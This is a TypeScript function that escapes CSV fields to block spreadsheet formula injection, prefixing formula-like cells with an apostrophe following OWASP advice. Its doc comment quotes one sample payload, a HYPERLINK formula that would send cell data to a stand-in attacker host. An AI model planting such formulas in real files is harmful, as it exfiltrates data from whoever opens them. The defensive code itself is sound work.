/**
 * One CSV field (RFC 4180), made safe to open in a spreadsheet. A cell that starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return (or their full-width forms, which some spreadsheets also read as
 * formulas) is a formula to Excel, LibreOffice and Google Sheets: an input such as
 * `=HYPERLINK("http://evil.example/?"&A1)` would run in the job owner's spreadsheet. Such a cell gets
 * a leading `'` (OWASP's advice: the spreadsheet shows the text, and the quote marks it as text) and is
 * quoted. The JSONL export is the exact form.
 */
export function csvCell(value: string): string {
	const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value);
	const text = formula ? `'${value}` : value;
	return formula || /[",\n\r]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
